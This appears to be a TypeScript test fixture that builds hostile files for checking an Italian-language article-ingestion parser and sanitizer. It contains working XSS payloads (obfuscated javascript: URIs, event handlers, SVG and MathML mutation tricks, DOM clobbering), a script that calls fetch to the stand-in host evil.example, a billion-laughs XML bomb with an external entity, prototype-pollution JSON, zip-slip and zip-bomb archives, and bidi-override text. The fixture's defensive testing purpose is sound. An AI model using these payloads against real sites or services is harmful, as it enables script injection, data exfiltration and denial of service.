/** Files made to do harm, each with what must become of it: an article of words, or a refusal. */
import { strToU8, zipSync } from 'fflate';

/** A file that a test brings. */
export interface HostileFile {
  readonly name: string;
  readonly content: string | Uint8Array;
  /** The headline of the article it becomes; null for a file that is refused. */
  readonly headline: string | null;
}

const SENTENCES =
  'Il sindaco ha aperto il ponte davanti a molte persone, e ha parlato a lungo del lavoro. '.repeat(3);
const MEGABYTE = 1024 * 1024;

/** Runs, wherever it is run. */
const RUN = "window.name='run';window.harmed=true;fetch('https://evil.example/x')";

function toPage(headline: string, body: string, attributes = ''): string {
  return `<!doctype html><html lang="it"><head><title>${headline}</title></head><body ${attributes}><article><h1>${headline}</h1><p>${SENTENCES}</p>${body}<p>${SENTENCES}</p></article></body></html>`;
}

/** Addresses that run in a browser that reads them carelessly. */
const RUNNING = [
  `javascript:${RUN}`,
  `  java\tscr\nipt:${RUN}`,
  `JaVaScRiPt&colon;${RUN}`,
  `&#1;javascript:${RUN}`,
  `&#x6A;avascript&#0000058;${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  ` DATA:text/html;base64,PHNjcmlwdD5oYXJtZWQ9MTwvc2NyaXB0Pg==`,
  `vbscript:msgbox(1)`,
  ` vb\nscript:${RUN}`,
  `\u3000javascript:${RUN}`,
];

const HANDLERS = ['onload', 'onerror', 'onclick', 'onmouseover', 'onfocus', 'onanimationstart', 'ontoggle'];

const handlers = HANDLERS.map((name) => `${name}="${RUN}"`).join(' ');

const scripts = toPage(
  'Gestori ovunque',
  `<script>${RUN}</script><script src="https://evil.example/a.js"></script><link rel="stylesheet" href="https://evil.example/a.css"><style>@import "https://evil.example/b.css";</style>
<p ${handlers} tabindex="0" autofocus>Un passo con gestori, che il sindaco ha letto a tutti. ${SENTENCES}</p><img src="x" ${handlers}><details open ${handlers}><summary>Apri</summary>${SENTENCES}</details>
<iframe srcdoc="<script>parent.harmed=true</script>"></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e"><video src="https://evil.example/v" autoplay ${handlers}></video>
<figure><img src="https://evil.example/pixel.png" srcset="https://evil.example/2.png 2x" ${handlers}><figcaption>Il ponte di pietra</figcaption></figure><meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">`,
  handlers,
);

const links = toPage(
  'Rimandi che corrono',
  RUNNING.map((address) => `<p>${SENTENCES}<a href="${address}">Un rimando</a></p>`).join('') +
    `<form action="javascript:${RUN}"><button formaction="javascript:${RUN}">Invia</button></form><img src="javascript:${RUN}">`,
);

const drawings = toPage(
  'Disegni e formule',
  `<svg ${handlers}><script>${RUN}</script><animate attributeName="href" values="javascript:${RUN}"/><a xlink:href="javascript:${RUN}"><text>Segno</text></a><use href="data:image/svg+xml,<svg onload=${RUN}>"/><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;"></mglyph></table></mtext><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>
<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript><template><script>${RUN}</script></template><!--><img src=x onerror=${RUN}>-->`,
);

const names = toPage(
  'Nomi del documento',
  `<form id="document" name="body"><input name="attributes"><input name="childNodes"><input name="firstChild"></form><a id="__proto__" name="constructor">x</a><img name="getElementById"><a id="location" href="https://evil.example/"></a><p id="root">${SENTENCES}</p>`,
);

const laughs = `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY l0 "ah"><!ENTITY x SYSTEM "https://evil.example/x">${Array.from(
  { length: 9 },
  (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`,
).join(
  '',
)}]><rss><channel><item><title>Un miliardo di risate</title><description>Una frase intera &l9; e un’altra &x;.</description></item></channel></rss>`;

const item = (text: string) => JSON.stringify({ uri: 'urn:x', headline: text, body_text: SENTENCES });

/** Files made to do harm; no two become an article of the same headline. */
export function buildHostileFiles(): readonly HostileFile[] {
  const zeros = new Uint8Array(10 * MEGABYTE);
  const bomb = Object.fromEntries(Array.from({ length: 11 }, (_, i) => [`${i}.txt`, zeros]));
  const text = strToU8(`Il titolo dentro l’archivio\n\n${SENTENCES}`);
  return [
    { name: 'gestori.html', content: scripts, headline: 'Gestori ovunque' },
    { name: 'rimandi.html', content: links, headline: 'Rimandi che corrono' },
    { name: 'disegni.html', content: drawings, headline: 'Disegni e formule' },
    { name: 'nomi.html', content: names, headline: 'Nomi del documento' },
    { name: 'risate.xml', content: laughs, headline: 'Un miliardo di risate' },
    {
      name: 'markdown.md',
      content: `# Segni che corrono\n\n${SENTENCES} [qui](javascript:${RUN}) <img src=x onerror="${RUN}"> ![x](https://evil.example/m.png)\n\n<script>${RUN}</script>\n`,
      headline: 'Segni che corrono',
    },
    { name: 'proto.json', content: '{"schema":1,"__proto__":{"harmed":true}}', headline: null },
    {
      name: 'proto-dentro.json',
      content: '{"uri":"urn:x","headline":"T","a":[{"\\u005f_proto__":{"harmed":true}}]}',
      headline: null,
    },
    { name: 'profondo.html', content: `${'<div>'.repeat(200_000)}${SENTENCES}`, headline: null },
    { name: 'profondo.json', content: `{"a":${'['.repeat(500_000)}`, headline: null },
    {
      name: 'fuori.zip',
      content: zipSync({ '../../fuori.txt': strToU8(SENTENCES), 'dentro.txt': text }),
      headline: 'Il titolo dentro l’archivio',
    },
    { name: 'bomba.zip', content: zipSync(bomb, { level: 1 }), headline: null },
    { name: 'riga.txt', content: 'parola '.repeat(1_500_000), headline: null },
    {
      name: 'surrogati.json',
      content: item('Mezzi caratteri').replace('Mezzi', '\\ud800Mezzi\\udc00'),
      headline: '\uFFFDMezzi\uFFFD caratteri',
    },
    {
      name: 'zeri.json',
      content: item('Zeri nel titolo').replace('Zeri', 'Ze\\u0000ri'),
      headline: 'Zeri nel titolo',
    },
    {
      name: 'verso.txt',
      content: `Il verso \u202Eotibmac\u202D del titolo\n\n${SENTENCES}\u202Efdp.txe ${SENTENCES}\n`,
      headline: 'Il verso otibmac del titolo',
    },
    {
      name: 'byte.txt',
      content: Buffer.concat([
        Buffer.from(`Byte che non sono lettere\n\n${SENTENCES}`),
        Buffer.from([0xc3, 0x28, 0xf8, 0xa1, 0xa1, 0xa1, 0xa1, 0xed, 0xa0, 0x80]),
        Buffer.from(SENTENCES),
      ]),
      headline: 'Byte che non sono lettere',
    },
    { name: 'troncato.json', content: item('Troncato').slice(0, -40), headline: null },
  ];
}
